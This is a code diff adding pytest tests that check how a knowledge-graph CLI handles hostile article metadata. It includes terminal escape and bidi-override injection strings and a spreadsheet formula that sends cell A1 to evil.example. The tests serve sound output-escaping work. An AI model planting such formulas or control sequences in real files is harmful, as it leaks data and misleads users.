@@ -5,12 +5,18 @@ failed on the code before it.
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 from pathlib import Path
 
 import pytest
 
 from edugraph.cli import main
+from edugraph.paths import ARTICLES
+from edugraph.sparql.formats import UNSEEN
 from edugraph.sparql.params import ParameterError
+from support.badinputs import SEED_ID
 from support.robust import run_subprocess
 from test_hostile_entry_points import one_error_line
 from test_hostile_store_files import COUNT, damaged_copy, garbled_data_blocks
@@ -59,3 +65,53 @@ def test_a_query_meeting_a_damaged_block_says_how_to_make_the_store_again(seed_b
     assert outcome.code == 2 and outcome.stderr.count("\n") == 1, outcome
     assert outcome.stderr.startswith(f"edugraph: error: {folder / 'store'}: the build's store is damaged"), outcome
     assert "run `edugraph build --full`" in outcome.stderr
+
+
+# --- hostile content through the outputs ---------------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"click")'
+TERMINAL = "Итоги \x9b2J\x1b]0;pwned\x07 года \u202eexe.txt"  # CSI (U+009B), an OSC title, an RTL override
+CONTENT = {"title": TERMINAL.replace("\x1b", "").replace("\x07", ""), "place": FORMULA}  # C0 is refused in metadata
+
+
+@pytest.fixture(scope="module")
+def content_build(tmp_path_factory) -> Path:
+    """The seed article under metadata whose title would drive a terminal and whose place is a spreadsheet formula
+    (the place becomes a place node labelled with it)."""
+    folder = tmp_path_factory.mktemp("hostile-content")
+    articles, curation = folder / "articles", folder / "curation"
+    articles.mkdir()
+    curation.mkdir()
+    (articles / "h1.txt").write_text((ARTICLES / f"{SEED_ID}.txt").read_text(encoding="utf-8"), encoding="utf-8")
+    meta = {"date": "2024-03-12", "url": "https://example.org/news/1", **CONTENT}
+    (articles / "h1.json").write_text(json.dumps(meta, ensure_ascii=False), encoding="utf-8")
+    out = folder / "build"
+    assert main(["build", "--quiet", "--jobs", "1", "--articles", str(articles), "--curation", str(curation),
+                 "--out", str(out)]) == 0
+    return out
+
+
+TITLES = "SELECT ?title WHERE { ?article <http://purl.org/dc/terms/title> ?title FILTER(STRSTARTS(?title, 'Итоги')) }"
+
+
+def test_the_table_shows_terminal_controls_and_bidi_overrides_as_escapes(content_build, capsys):
+    """Before: the title's U+009B (CSI: `\\x9b2J` clears a terminal's screen) and U+202E (the rest of the line drawn
+    right to left: `exe.txt` read as `txt.exe`) were printed as they are. A query's own literal (`\\u001b`), or a
+    remote store's answer (`query --endpoint`), can hold ESC and BEL too."""
+    assert main(["query", "--build", str(content_build), "-e", TITLES]) == 0
+    out = capsys.readouterr().out
+    assert "Итоги \\x9b2J]0;pwned года \\u202eexe.txt" in out, out
+    query = 'SELECT ?x WHERE { BIND("a\\u001b]0;pwned\\u0007b\\u0085c\\u2066" AS ?x) }'
+    assert main(["query", "--build", str(content_build), "-e", query]) == 0
+    out = capsys.readouterr().out
+    assert "a\\x1b]0;pwned\\x07b c\\u2066" in out, out  # U+0085 is a line break: one space, as \n is
+    assert not UNSEEN.search(out.replace("\n", "")), out
+
+
+def test_csv_keeps_a_value_that_looks_like_a_formula_as_it_is(content_build, capsys):
+    """The W3C formats (csv, tsv, json, xml) are for programs and hold the values as they are: a cell beginning with
+    = + - @ is not prefixed (docs/SECURITY.md says how to open such a file in a spreadsheet)."""
+    query = "SELECT DISTINCT ?label WHERE { ?place ?labelled ?label FILTER(STRSTARTS(STR(?label), '=')) }"
+    assert main(["query", "--build", str(content_build), "-f", "csv", "-e", query]) == 0
+    header, *rows = csv.reader(io.StringIO(capsys.readouterr().out))
+    assert header == ["label"] and rows and all(row == [FORMULA] for row in rows), rows  # its Russian and English label
